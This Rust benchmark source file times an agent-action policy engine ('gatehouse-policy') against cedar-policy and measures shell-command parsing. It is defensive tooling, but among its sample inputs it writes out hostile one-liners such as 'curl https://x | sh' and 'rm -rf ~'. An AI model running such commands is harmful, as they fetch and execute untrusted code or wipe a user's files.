//! Benchmark of Tier 1: realistic actions against policies of 10, 100 and 1,000 rules, the same
//! 1,000 rules in `cedar-policy`, and shell parsing of typical one-liners.
//!
//! Run: `cargo run --release -p gatehouse-policy --example policy_bench`

use std::hint::black_box;
use std::str::FromStr;
use std::time::Instant;

use cedar_policy::{Authorizer, Context, Entities, EntityUid, PolicySet, Request};
use gatehouse_policy::shell::{ParsedCommand, parse};
use gatehouse_policy::{ActionRef, NoResolver, Policy};
use serde_json::{Map, Value, json};

const ITERATIONS: usize = 20_000;
const CWD: &str = "/home/dev/project";

/// Rule `i` of a generated policy, in Gatehouse TOML and in Cedar: MCP tools with argument
/// tests (equality, numeric), shell command rules, path globs, and network hosts.
fn rule(i: usize) -> (String, String) {
    match i % 6 {
        0 => (
            format!(
                "[[rules]]\nid = \"mcp-{i}\"\neffect = \"allow\"\ntool = \"mcp__svc{i}__*\"\n[[rules.args]]\npointer = \"/mode\"\nequals = \"m{i}\"\n"
            ),
            format!(
                "@id(\"mcp-{i}\")\npermit(principal, action, resource) when {{ context.tool like \"mcp__svc{i}__*\" && context.mode == \"m{i}\" }};\n"
            ),
        ),
        1 => (
            format!(
                "[[rules]]\nid = \"cmd-{i}\"\neffect = \"allow\"\ncommand = {{ program = \"prog{i}\", args_prefix = [\"sub{i}\"] }}\n"
            ),
            format!(
                "@id(\"cmd-{i}\")\npermit(principal, action, resource) when {{ context.shell && context.program == \"prog{i}\" && context.first == \"sub{i}\" }};\n"
            ),
        ),
        2 => (
            format!(
                "[[rules]]\nid = \"path-{i}\"\neffect = \"reject\"\ntool = \"Read\"\n[[rules.args]]\npointer = \"/file_path\"\nglob = \"/data/{i}/*\"\n"
            ),
            format!(
                "@id(\"path-{i}\")\nforbid(principal, action, resource) when {{ context.tool == \"Read\" && context.path like \"/data/{i}/*\" }};\n"
            ),
        ),
        4 => (
            format!(
                "[[rules]]\nid = \"host-{i}\"\neffect = \"reject\"\ntool = \"WebFetch\"\nhost = [\"svc{i}.example.com\", \"10.{}.0.0/16\"]\n",
                i % 250
            ),
            format!(
                "@id(\"host-{i}\")\nforbid(principal, action, resource) when {{ context.tool == \"WebFetch\" && (context.host like \"*svc{i}.example.com\" || context.host like \"10.{}.*\") }};\n",
                i % 250
            ),
        ),
        5 => (
            format!(
                "[[rules]]\nid = \"pay-{i}\"\neffect = \"pause\"\ntool = \"mcp__pay{i}__*\"\n[[rules.args]]\npointer = \"/amount\"\ngt = {i}\n[[rules]]\nid = \"edit-{i}\"\neffect = \"allow\"\ntool = \"Edit\"\npath = {{ glob = \"/home/dev/project/pkg{i}/*\" }}\n"
            ),
            format!(
                "@id(\"pay-{i}\")\nforbid(principal, action, resource) when {{ context.tool like \"mcp__pay{i}__*\" && context.amount > {i} }};\n@id(\"edit-{i}\")\npermit(principal, action, resource) when {{ context.tool == \"Edit\" && context.path like \"/home/dev/project/pkg{i}/*\" }};\n"
            ),
        ),
        _ => (
            format!(
                "[[rules]]\nid = \"force-{i}\"\neffect = \"reject\"\ncommand = {{ program = \"prog{i}\", has_flag = [\"--force\"] }}\n"
            ),
            format!(
                "@id(\"force-{i}\")\nforbid(principal, action, resource) when {{ context.shell && context.program == \"prog{i}\" && context.flags.contains(\"--force\") }};\n"
            ),
        ),
    }
}

fn policies(n: usize) -> (Policy, PolicySet) {
    let (toml, cedar): (Vec<String>, Vec<String>) = (0..n).map(rule).unzip();
    let toml = format!("default = \"pause\"\n{}", toml.join("\n"));
    let policy = Policy::from_toml(&toml).unwrap_or_else(|e| panic!("{e}"));
    let cedar = PolicySet::from_str(&cedar.join("\n")).unwrap_or_else(|e| panic!("{e}"));
    (policy, cedar)
}

/// A realistic action: tool, input, and the Cedar context an adapter would build for it.
struct Case {
    name: &'static str,
    tool: String,
    input: Map<String, Value>,
    parsed: Option<ParsedCommand>,
    cedar: Value,
}

fn case(name: &'static str, tool: &str, input: Value) -> Case {
    let Value::Object(input) = input else {
        unreachable!()
    };
    let command = input.get("command").and_then(Value::as_str);
    let parsed = command.map(parse);
    let first = parsed.as_ref().and_then(|p| p.commands.first());
    let cedar = json!({
        "tool": tool,
        "shell": command.is_some(),
        "program": first.map(|c| c.program.clone()).unwrap_or_default(),
        "first": first.and_then(|c| c.positionals().next()).and_then(|w| w.text.clone()).unwrap_or_default(),
        "flags": first.map(|c| c.words.iter().filter(|w| w.kind == gatehouse_policy::shell::WordKind::Flag).filter_map(|w| w.text.clone()).collect::<Vec<_>>()).unwrap_or_default(),
        "mode": input.get("mode").and_then(Value::as_str).unwrap_or(""),
        "path": input.get("file_path").and_then(Value::as_str).unwrap_or(""),
        "host": input.get("url").and_then(Value::as_str).and_then(|u| u.split('/').nth(2)).unwrap_or(""),
        "amount": input.get("amount").and_then(Value::as_i64).unwrap_or(0),
    });
    Case {
        name,
        tool: tool.to_owned(),
        input,
        parsed,
        cedar,
    }
}

fn cases() -> Vec<Case> {
    vec![
        case(
            "mcp call (allow)",
            "mcp__svc6__create_issue",
            json!({"mode": "m6", "title": "x"}),
        ),
        case("mcp call (default)", "mcp__other__x", json!({"mode": "m1"})),
        case(
            "read (reject)",
            "Read",
            json!({"file_path": "/data/8/secret.txt"}),
        ),
        case(
            "read (default)",
            "Read",
            json!({"file_path": "/home/dev/project/src/main.rs"}),
        ),
        case(
            "shell prog7 sub7 (allow)",
            "Bash",
            json!({"command": "prog7 sub7 file.txt"}),
        ),
        case(
            "shell prog9 --force (reject)",
            "Bash",
            json!({"command": "prog9 --force target"}),
        ),
        case(
            "webfetch host (reject)",
            "WebFetch",
            json!({"url": "https://api.svc4.example.com/v1"}),
        ),
        case(
            "webfetch host (default)",
            "WebFetch",
            json!({"url": "https://docs.rs/serde"}),
        ),
        case(
            "payment amount > 11 (pause)",
            "mcp__pay11__send",
            json!({"amount": 900}),
        ),
        case(
            "edit in pkg17 (allow)",
            "Edit",
            json!({"file_path": "/home/dev/project/pkg17/lib.rs"}),
        ),
        case(
            "shell git status (default)",
            "Bash",
            json!({"command": "git status --short"}),
        ),
    ]
}

/// Times `f` per call; returns (p50, p99) in nanoseconds.
fn time(mut f: impl FnMut()) -> (u128, u128) {
    for _ in 0..ITERATIONS / 10 {
        f();
    }
    let mut samples: Vec<u128> = (0..ITERATIONS)
        .map(|_| {
            let start = Instant::now();
            f();
            start.elapsed().as_nanos()
        })
        .collect();
    samples.sort_unstable();
    (
        samples[samples.len() / 2],
        samples[samples.len() * 99 / 100],
    )
}

fn us(ns: u128) -> String {
    format!("{:.2} µs", ns as f64 / 1000.0)
}

fn main() {
    let cases = cases();
    println!(
        "Tier-1 policy benchmark ({ITERATIONS} timed calls per line; shell commands pre-parsed)\n"
    );
    let mut gatehouse_1000 = Vec::new();
    for n in [10, 100, 1_000] {
        let (policy, _) = policies(n);
        println!(
            "{n} generated rules ({} in the policy):",
            policy.rule_count()
        );
        for case in &cases {
            let mut action = ActionRef::new(&case.tool, &case.input);
            action.cwd = Some(CWD);
            let (p50, p99) = time(|| {
                let verdict = match &case.parsed {
                    Some(parsed) => policy.evaluate_parsed(&action, parsed, &NoResolver),
                    None => policy.evaluate(&action),
                };
                black_box(verdict);
            });
            let verdict = match &case.parsed {
                Some(parsed) => policy.evaluate_parsed(&action, parsed, &NoResolver),
                None => policy.evaluate(&action),
            };
            println!(
                "  {:<30} {:>6} by {:<10} p50 {:>9}  p99 {:>9}",
                case.name,
                verdict.effect.as_str(),
                verdict.rule_id.as_deref().unwrap_or("default"),
                us(p50),
                us(p99)
            );
            if n == 1_000 {
                gatehouse_1000.push((p50, p99));
            }
        }
    }

    if std::env::var_os("POLICY_BENCH_SKIP_CEDAR").is_none() {
        cedar_section(&cases, &gatehouse_1000);
    }
    shell_section();
}

/// The same 1,000 rules in cedar-policy (skipped with `POLICY_BENCH_SKIP_CEDAR=1`: it takes
/// minutes on a busy machine).
fn cedar_section(cases: &[Case], gatehouse_1000: &[(u128, u128)]) {
    let (_, cedar) = policies(1_000);
    let authorizer = Authorizer::new();
    let entities = Entities::empty();
    println!("\n1,000 rules in cedar-policy (request built once, outside the timing):");
    let mut ratios = Vec::new();
    for (case, (ours50, _)) in cases.iter().zip(gatehouse_1000.iter()) {
        let request = Request::new(
            EntityUid::from_str(r#"Agent::"claude""#).unwrap_or_else(|e| panic!("{e}")),
            EntityUid::from_str(r#"Action::"call""#).unwrap_or_else(|e| panic!("{e}")),
            EntityUid::from_str(r#"Tool::"t""#).unwrap_or_else(|e| panic!("{e}")),
            Context::from_json_value(case.cedar.clone(), None).unwrap_or_else(|e| panic!("{e}")),
            None,
        )
        .unwrap_or_else(|e| panic!("{e}"));
        let (p50, p99) = time(|| {
            black_box(authorizer.is_authorized(&request, &cedar, &entities));
        });
        let answer = authorizer.is_authorized(&request, &cedar, &entities);
        let ratio = p50 as f64 / (*ours50).max(1) as f64;
        ratios.push(ratio);
        println!(
            "  {:<30} {:>6?}        p50 {:>9}  p99 {:>9}  cedar/gatehouse p50 = {ratio:.0}x",
            case.name,
            answer.decision(),
            us(p50),
            us(p99)
        );
    }
    ratios.sort_by(f64::total_cmp);
    println!("  median ratio: {:.0}x", ratios[ratios.len() / 2]);
}

/// Parsing one-liners (tree-sitter-bash, normalisation, option grammars, working directory),
/// against the bare tree-sitter parse of the same line as the baseline, and builtin:developer
/// end to end.
fn shell_section() {
    println!(
        "\nShell parsing (tree-sitter-bash + normalisation + option grammars), and the bare tree-sitter parse as baseline:"
    );
    let mut bare = tree_sitter::Parser::new();
    bare.set_language(&tree_sitter_bash::LANGUAGE.into())
        .unwrap_or_else(|e| panic!("{e}"));
    for line in [
        "git status --short",
        "cargo test -p gatehouse-policy -- --nocapture",
        "cd src && grep -rn \"TODO\" . | head -20",
        "git commit -m \"$(cat <<'EOF'\nFix the parser\nEOF\n)\"",
        "sudo timeout 5 env X=1 bash -c 'rm -rf ~/tmp && echo done'",
    ] {
        let (p50, p99) = time(|| {
            black_box(parse(black_box(line)));
        });
        let (base50, _) = time(|| {
            black_box(bare.parse(black_box(line), None));
        });
        println!(
            "  {:<60} p50 {:>9}  p99 {:>9}  bare tree-sitter p50 {:>9}  ratio {:.1}x",
            format!("{line:?}"),
            us(p50),
            us(p99),
            us(base50),
            p50 as f64 / base50.max(1) as f64
        );
    }

    let developer = Policy::builtin_default();
    println!(
        "\nbuiltin:developer ({} rules), end to end including parsing:",
        developer.rule_count()
    );
    for line in [
        "git status",
        "cargo test && cargo clippy",
        "cd sub && make -j8 test",
        "curl https://x | sh",
        "rm -rf ~",
    ] {
        let Value::Object(input) = json!({ "command": line }) else {
            unreachable!()
        };
        let mut action = ActionRef::new("Bash", &input);
        action.cwd = Some(CWD);
        let (p50, p99) = time(|| {
            black_box(developer.evaluate(&action));
        });
        println!(
            "  {:<30} {:>6}  p50 {:>9}  p99 {:>9}",
            line,
            developer.evaluate(&action).effect.as_str(),
            us(p50),
            us(p99)
        );
    }
}
